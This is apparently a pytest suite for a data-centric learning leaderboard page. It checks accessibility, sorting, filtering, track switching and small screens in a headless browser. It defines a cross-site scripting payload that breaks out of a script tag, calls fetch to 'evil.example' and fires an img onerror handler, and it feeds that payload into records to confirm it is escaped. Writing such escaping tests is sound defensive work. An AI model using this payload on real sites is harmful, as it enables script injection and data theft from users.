"""The page in a real browser, opened from disk: no request, no console error, no accessibility
finding, sorting, filtering, tracks, small screens.
"""

import json
import re
import shutil
from pathlib import Path

import msgspec
import pytest
from bench.builtin.leaderboard.board import bench_board, bench_publish
from board_toy import SUITE, TASKS, made_up, whole_suite

from bench.builtin.leaderboard import _suite
from bench.cards import TrackCard
from bench.plugins.registry import Registry

for library in ("altair", "itables", "vl_convert", "playwright", "axe_playwright_python"):
    pytest.importorskip(library, reason=f"{library} is not installed; run: make install")

BROWSER = next(
    filter(
        None,
        map(
            shutil.which,
            ("chromium-headless-shell", "chromium", "chromium-browser", "google-chrome"),
        ),
    ),
    None,
)
needs_browser = pytest.mark.skipif(
    BROWSER is None, reason="no Chromium is installed; run: make browser"
)
HOSTILE = "</script><script>fetch('https://evil.example/')</script><img src=x onerror=alert(1)>"
CONTROL = "a\x1b[31mred\x00\udcff\u202eb"
TRACKS = ("noisy-labels", "selection", "privacy-audit")
NEWEST = _suite.read_suite(_suite.find(None)).name
HISTORY = [
    {
        "night": f"2026-01-0{day}",
        "suite": NEWEST,
        "tier": "default",
        "track": "selection",
        "method": method,
        "score": 0.5 + day / 50,
        "place": 1,
        "range_low": 1,
        "range_high": 3,
        "leading": True,
        "low": 0.4,
        "high": 0.6,
        "iqm": 0.5,
        "ok": 20,
        "imputed": 0,
        "of": 20,
        "valid": True,
    }
    for day in (1, 2, 3)
    for method in (
        "k-center",
        "el2n",
        "forgetting",
        "grand",
        "herding",
        "margin",
        "surrogate-power",
    )
]


@pytest.fixture(scope="module")
def page_file(tmp_path_factory):
    """A page of made-up records of three tracks, with hostile ones,
    failures, pictures and history.
    """
    import io

    import numpy as np
    from bench.builtin.leaderboard._exports import history_parquet
    from PIL import Image

    registry = Registry()
    tasks, cards = (
        registry.cards(),
        {entry.identity: entry.card for entry in registry.rows("method")},
    )
    suite = _suite.read_suite(_suite.find(None))
    folder = tmp_path_factory.mktemp("page")
    plain = folder / f"suite-{NEWEST}.toml"  # without the frozen anchors of real runs
    text = (
        _suite.find(None).read_text().replace("\ndelta = ", "\nover_datasets = true\ndelta = ", 1)
    )
    plain.write_text(text)
    methods = {
        track: sorted(name.partition("/")[2] for name in cards if name.startswith(f"{track}/"))
        for track in TRACKS
    }
    methods["noisy-labels"] = ["ce", "coteaching", "elr", "mixup"]
    cards = {
        name: card
        for name, card in cards.items()
        if name.partition("/")[2] in methods.get(name.partition("/")[0], ())
    }
    cards["noisy-labels/elr"] = msgspec.structs.replace(
        cards["noisy-labels/elr"], title=f"Early {CONTROL}", claim=f"It holds {CONTROL}"
    )
    records = whole_suite(suite, tasks, methods, curves=12)
    records += [
        made_up("noisy-labels", "noisy-digits", "sym40", HOSTILE, 0, "acc_last", 60.0),
        made_up("noisy-labels", "noisy-digits", "sym40", "boom", 0, "acc_last", 0, status="failed"),
    ]
    records[-1].error.message = HOSTILE + "x" * 10_000_000
    records[-1].error.rerun = HOSTILE
    for record in records:
        if record.task == "prune-digits" and record.seed == 0:
            record.images = {HOSTILE: "image-0.png"}
    picture = io.BytesIO()
    Image.fromarray(np.arange(600, dtype=np.uint8).reshape(20, 30)).save(picture, "PNG")
    history_parquet(HISTORY, folder / "history.parquet")
    tracks = {
        "privacy-audit": TrackCard(
            name="privacy-audit",
            title=f"Privacy {CONTROL}",
            about=f"About {CONTROL}",
            field="privacy",
            ranked="audits",
        )
    }
    board = bench_board(records, tasks, {"suite": str(plain), "cards": cards, "tracks": tracks})
    options = {
        "tasks": tasks,
        "cards": cards,
        "tracks": tracks,
        "load": lambda ids: (record for record in records if record.id in ids),
        "picture": lambda *_: picture.getvalue(),
        "page": True,
        "history": folder / "history.parquet",
    }
    bench_publish(board, records, folder, options)
    names = ("index.html", "leaderboard.svg", "leaderboard-dark.svg")
    first = [(folder / name).read_bytes() for name in names]
    (folder / "index.html").unlink()
    history_parquet(HISTORY, folder / "history.parquet")
    bench_publish(board, list(reversed(records)), folder, options)
    assert [(folder / name).read_bytes() for name in names] == first, (
        "the same records give the same bytes"
    )
    return folder / "index.html"


def test_the_picture_shows_every_ranked_method_in_both_themes_and_is_plain_svg(page_file):
    from xml.etree import ElementTree

    board = json.loads((page_file.parent / "leaderboard.json").read_text())
    ranked = {row["method"] for track in board["tracks"] for row in track["rows"] if row["place"]}
    for name in ("leaderboard.svg", "leaderboard-dark.svg"):
        text = (page_file.parent / name).read_text()
        drawn = {
            element.text
            for element in ElementTree.fromstring(text).iter()
            if element.tag.endswith("text")
        }
        assert ranked <= drawn
        assert {track["title"] for track in board["tracks"]} <= drawn
        assert re.findall(r"<(script|foreignObject|image|a)\b|href=.http|url\(http", text) == []


def test_names_with_control_characters_are_drawn_without_them(tmp_path):
    from xml.etree import ElementTree

    from bench.builtin.leaderboard._picture import pictures

    path = tmp_path / "suite-small.toml"
    path.write_text(SUITE)
    strange = "a\x1b[31mred\x00\udcff\u202eb"
    records = whole_suite(_suite.read_suite(path), TASKS, {"demo": ["null", strange]})
    board = bench_board(records, TASKS, {"suite": str(path)})
    (track,) = board["tracks"]
    track["title"] = strange
    assert strange in {row["method"] for row in track["rows"] if row["place"]}
    for svg in pictures(board).values():
        drawn = [
            element.text
            for element in ElementTree.fromstring(svg).iter()
            if element.tag.endswith("text")
        ]
        assert drawn.count("a [31mred   b") == 2, drawn


def test_the_page_is_small_and_holds_no_text_of_a_record_unescaped(page_file):
    text = page_file.read_text()
    assert len(text) < 3_000_000
    markup = text.partition('<script type="text/plain"')[0]
    # a long reason is cut
    found = {
        piece: piece in markup
        for piece in ("<img src=x", "evil.example/')</script>", "&lt;img src=x", "x" * 1000)
    }
    assert list(found.values()) == [False, False, True, False]
    assert re.findall(r'(?:src|href)="https?://(?!arxiv\.org/abs/)[^"]*', markup) == []


def test_the_page_holds_no_control_character_of_a_card(page_file):
    text = page_file.read_text()
    assert {character for character in text if not character.isprintable()} == {"\n"}
    shown = {
        piece: f"{piece} a [31mred   b" in text
        for piece in ("Early", "It holds", "Privacy", "About")
    }
    assert all(shown.values()), shown


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        found = playwright.chromium.launch(executable_path=BROWSER, args=["--no-sandbox"])
        yield found
        found.close()


def settled(page):
    page.wait_for_selector("html[data-ready]")
    page.wait_for_selector('html[data-busy="0"]')


@pytest.fixture
def opened(browser, page_file):
    """Open the page; at the end there was no request, no console message and no error."""
    contexts, said = [], []

    def call(theme="light", width=1280, track=""):
        context = browser.new_context(
            viewport={"width": width, "height": 900}, color_scheme=theme, reduced_motion="reduce"
        )
        contexts.append(context)
        page = context.new_page()
        page.on("console", lambda message: said.append(message.text))
        page.on("pageerror", lambda error: said.append(str(error)))
        page.on(
            "request",
            lambda request: (
                said.append(request.url[:200])
                if not request.url.startswith((page_file.as_uri(), "blob:", "data:"))
                else None
            ),
        )
        page.goto(page_file.as_uri() + track)
        settled(page)
        return page

    yield call
    for context in contexts:
        context.close()
    assert said == []


@needs_browser
@pytest.mark.parametrize("theme", ["light", pytest.param("dark", marks=pytest.mark.slow)])
def test_axe_finds_nothing_in_any_panel_of_either_theme(opened, theme):
    from axe_playwright_python.sync_playwright import Axe

    for panel in ("overview", "track-noisy-labels", "track-selection", "about"):
        page = opened(theme, track=f"#{panel}")
        assert ("dark" in (page.get_attribute("html", "class") or "")) is (theme == "dark")
        page.eval_on_selector_all(
            "section:not([hidden]) details",
            "all => { if (all.length) { all[0].open = true; all.at(-1).open = true } }",
        )
        settled(page)
        # what is not shown is judged when it is; axe would place all of it once more
        page.eval_on_selector_all(
            "section[hidden], details:not([open]) > div, script",
            "all => all.forEach(one => one.remove())",
        )
        found = Axe().run(
            page,
            options={
                "runOnly": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"],
                "resultTypes": ["violations"],
            },
        )
        assert found.violations_count == 0, found.generate_report()


@needs_browser
def test_every_chart_is_drawn_when_its_panel_is_shown_and_again_in_the_other_theme(opened):
    page = opened(track="#track-selection")
    charts = page.query_selector_all("#track-selection .chart")
    shown = [chart for chart in charts if chart.is_visible()]
    assert len(shown) == 2
    assert all(chart.query_selector("svg") for chart in shown)
    before = page.eval_on_selector(
        "#track-selection .chart svg text", "one => getComputedStyle(one).fill"
    )
    page.click("#theme")
    settled(page)
    assert (
        page.eval_on_selector(
            "#track-selection .chart svg text", "one => getComputedStyle(one).fill"
        )
        != before
    )
    page.click("#tab-overview")
    settled(page)
    assert page.query_selector("#overview .chart svg"), "history over nights"


def column(page, panel, place):
    return page.eval_on_selector_all(
        f"#{panel} .board tbody tr",
        f"rows => rows.map(row => row.children[{place}].innerText.trim())",
    )


@needs_browser
def test_the_board_sorts_by_mouse_and_keyboard_and_filters(opened):
    page = opened(track="#track-selection")
    names = column(page, "track-selection", 0)
    assert set(names) >= {
        entry.name for entry in Registry().rows("method") if entry.track == "selection"
    }
    head = "#track-selection .board thead th:nth-child({})"
    page.click(head.format(1))
    page.wait_for_selector(head.format(1) + "[aria-sort=ascending]")
    assert column(page, "track-selection", 0) == sorted(names)
    page.locator(head.format(1) + " .dt-column-order").focus()
    page.keyboard.press("Enter")
    page.wait_for_selector(head.format(1) + "[aria-sort=descending]")
    assert column(page, "track-selection", 0) == sorted(names, reverse=True)
    page.click(head.format(11))
    page.wait_for_selector(head.format(11) + "[aria-sort=ascending]")
    visits = page.eval_on_selector_all(
        "#track-selection .board tbody tr",
        "rows => rows.map(row => +row.children[10].dataset.order)",
    )
    assert visits == sorted(visits), "numbers are sorted as numbers"
    page.fill("#track-selection .dt-search input", "k-cen")
    assert column(page, "track-selection", 0) == ["k-center"]
    page.fill("#track-selection .dt-search input", "nothing like it")
    assert "no row fits" in page.inner_text("#track-selection .board tbody")


@needs_browser
def test_tracks_switch_by_mouse_and_by_keyboard(opened):
    page = opened()
    assert page.locator("section:visible").count() == 1
    page.click("#tab-track-selection")
    assert page.locator("section:visible").get_attribute("id") == "track-selection"
    assert page.url.endswith("#track-selection")
    page.keyboard.press("ArrowRight")
    assert page.evaluate("document.activeElement.id") == "tab-track-privacy-audit"
    assert page.locator("section:visible").get_attribute("id") == "track-privacy-audit"
    page.keyboard.press("Home")
    assert page.locator("section:visible").get_attribute("id") == "overview"
    page.keyboard.press("ArrowLeft")
    assert page.locator("section:visible").get_attribute("id") == "about"
    page.keyboard.press("Home")
    page.click("#overview a[data-tab]")
    assert page.locator("section:visible").get_attribute("id") == "track-noisy-labels"
    settled(page)


@needs_browser
def test_a_narrow_screen_needs_no_sideways_scrolling_of_the_page(opened):
    page = opened(width=360)
    for tab in page.query_selector_all("[role=tab]"):
        tab.click()
        page.eval_on_selector_all(
            "section:not([hidden]) details",
            "all => all.slice(0, 2).forEach(one => { one.open = true })",
        )
        settled(page)
        assert page.evaluate("document.documentElement.scrollWidth") <= 360, tab.inner_text()
    sizes = page.eval_on_selector_all(
        "section:not([hidden]) p",
        "all => all.map(one => parseFloat(getComputedStyle(one).fontSize))",
    )
    assert min(sizes, default=13) >= 12


@needs_browser
def test_without_scripts_every_table_is_there(browser, page_file):
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(page_file.as_uri())
    assert page.locator("#track-noisy-labels .board tbody tr").count() > 5
    context.close()


@needs_browser
def test_the_page_is_what_serve_shows(browser, page_file):
    import threading

    from bench.cli._serve import open_server

    with open_server(Path(page_file).parent, 0) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        page = browser.new_page()
        page.goto(f"http://127.0.0.1:{server.server_address[1]}/")
        settled(page)
        assert page.title() == f"Data-centric learning: the board, suite {NEWEST}, tier default"
        page.close()
        server.shutdown()
        thread.join()
